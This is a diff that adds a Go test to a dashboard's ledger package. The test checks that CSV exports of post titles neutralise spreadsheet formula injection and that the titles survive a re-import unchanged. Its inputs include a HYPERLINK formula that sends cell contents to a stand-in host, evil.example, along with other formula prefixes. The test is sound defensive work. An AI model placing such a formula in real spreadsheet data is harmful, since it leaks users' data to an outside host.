@@ -1,0 +1,63 @@
+package ledger
+
+import (
+	"bytes"
+	"encoding/csv"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/velog-dashboard/velog-dashboard/collector"
+)
+
+// TestTitlesAreNoFormulas opens the exports as a spreadsheet does, and imports
+// them again.
+func TestTitlesAreNoFormulas(t *testing.T) {
+	titles := []string{
+		`=HYPERLINK("https://evil.example?"&A1)`, "+1-2", "-시작", "@sum", "＝1", "\tx", "'=quoted", "''=twice", "'no formula", "'", "plain = x",
+	}
+	db := openTest(t)
+	id := addAccount(t, db, "velopert", noon())
+	var round collector.GoodRound
+	for i, title := range titles {
+		o := seen(i+1, noon(), 10, 1, 0)
+		o.Title = title
+		round.Seen = append(round.Seen, o)
+	}
+	round.Account, round.At, round.Next = id, noon(), noon().Add(time.Hour)
+	if _, err := db.StoreRound(t.Context(), round); err != nil {
+		t.Fatal(err)
+	}
+	var one, days bytes.Buffer
+	if err := db.ExportReadings(t.Context(), id, &one); err != nil {
+		t.Fatal(err)
+	}
+	if err := db.ExportDays(t.Context(), id, &days); err != nil {
+		t.Fatal(err)
+	}
+	for name, text := range map[string]string{"all": exportText(t, db), "one": one.String(), "days": days.String()} {
+		lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+		if err != nil || len(lines) != len(titles)+1 {
+			t.Fatalf("%s: %d lines, %v", name, len(lines), err)
+		}
+		for _, line := range lines {
+			if strings.ContainsAny(line[2][:1], "=+-@\t") || strings.HasPrefix(line[2], "＝") {
+				t.Errorf("%s: %q is a formula", name, line[2])
+			}
+		}
+	}
+	copied := openTest(t)
+	importText(t, copied, exportText(t, db))
+	got := dump(t, copied, "SELECT title FROM posts ORDER BY id")
+	want := dump(t, db, "SELECT title FROM posts ORDER BY id")
+	if fmt.Sprint(got) != fmt.Sprint(want) {
+		t.Errorf("imported as %q, want %q", got, want)
+	}
+	for _, title := range titles {
+		if !slices.ContainsFunc(want, func(row string) bool { return strings.Contains(row, title) }) {
+			t.Errorf("%q is not in the ledger", title)
+		}
+	}
+}
